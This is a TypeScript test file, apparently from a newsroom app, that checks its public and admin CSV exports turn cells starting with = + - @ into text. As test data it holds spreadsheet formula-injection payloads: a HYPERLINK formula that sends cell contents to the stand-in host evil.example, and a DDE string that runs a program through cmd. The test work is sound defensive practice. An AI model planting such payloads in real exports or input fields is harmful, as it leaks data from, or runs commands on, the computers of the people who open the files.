import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvCell } from '../../src/domain/csv-cell.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';

// RFC 4180 cells of a CSV document. Written here (a dozen lines) because no CSV library is a
// dependency and the test must read quoted cells exactly as a spreadsheet would.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else {
      cell += c;
    }
  }
  return rows;
}

// What Excel, LibreOffice and Sheets run as a formula when a cell starts with it.
const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports defuse spreadsheet formulas', () => {
  let t: TestApp;

  before(async () => {
    t = await createTestApp();
    const desk = await t.app.inject({
      method: 'POST',
      url: '/api/v1/desks',
      headers: t.auth(t.adminToken),
      payload: { name: 'Sudan Daily', timezone: 'Africa/Khartoum' },
    });
    assert.equal(desk.statusCode, 201, desk.body);
  });
  after(() => t.close());

  it('public /api/v1/events.csv: a body or source starting with = + - @ opens as text, numbers stay numbers', async () => {
    const story = await t.app.inject({
      method: 'POST',
      url: '/api/v1/stories',
      headers: t.auth(t.editorToken),
      payload: { desk: 'sudan-daily', headline: 'Darfur', status: 'live' },
    });
    const update = await t.app.inject({
      method: 'POST',
      url: `/api/v1/stories/${story.json().id}/updates`,
      headers: t.auth(t.editorToken),
      payload: {
        body: '=HYPERLINK("https://evil.example/?leak="&A1,"Kutum") RSF fighters stormed Kutum on 12 May 2026.',
        claimStatus: 'claimed',
        sources: [{ label: '@SUM(1+1)*cmd|" /C calc"!A0', url: 'https://example.org/sdn' }],
      },
    });
    assert.equal(update.statusCode, 201, update.body);
    await t.enrichment.idle();
    const response = await t.app.inject({ url: '/api/v1/events.csv' });
    assert.equal(response.statusCode, 200);
    const [header, ...rows] = parseCsv(response.body);
    assert.ok(header && rows.length > 0, response.body);
    const column = (name: string) => header.indexOf(name);
    const row = rows.find((r) => r[column('update_url')]?.endsWith(`/updates/${update.json().id}`));
    assert.ok(row, response.body);
    assert.equal(row[column('sentence')]?.startsWith(`'=HYPERLINK(`), true, row[column('sentence')]);
    assert.equal(row[column('sources')]?.startsWith(`'@SUM(1+1)`), true, row[column('sources')]);
    for (const cell of rows.flat()) assert.doesNotMatch(cell, FORMULA_START, `cell ${JSON.stringify(cell)}`);
    // Kutum is at 14.2°N 24.7°E; coordinates stay numbers a spreadsheet can sum.
    assert.match(row[column('lon')] ?? '', /^\d+(\.\d+)?$/);
  });

  it('leaves negative numbers (western longitudes) as numbers, not text', () => {
    assert.equal(csvCell(-66.9), '-66.9');
    assert.equal(csvCell('-66.9'), "'-66.9");
  });

  it('admin audit export: a formula typed as a sign-in email is recorded, and exported as text', async () => {
    for (const email of ['=1+2@evil.example', '@SUM(1+1)', '-2+3']) {
      const login = await t.app.inject({
        method: 'POST',
        url: '/api/v1/session',
        payload: { email, password: 'not the password' },
      });
      assert.equal(login.statusCode, 401, login.body);
    }
    const csv = await t.app.inject({
      url: '/api/v1/audit/export?format=csv&action=login.failed',
      headers: t.auth(t.adminToken),
    });
    assert.equal(csv.statusCode, 200, csv.body);
    const [, ...rows] = parseCsv(csv.body);
    assert.equal(rows.length, 3, csv.body);
    for (const cell of rows.flat()) assert.doesNotMatch(cell, FORMULA_START, `cell ${JSON.stringify(cell)}`);
    assert.ok(
      rows.some((r) => r.includes("'=1+2@evil.example")),
      csv.body,
    );
  });
});
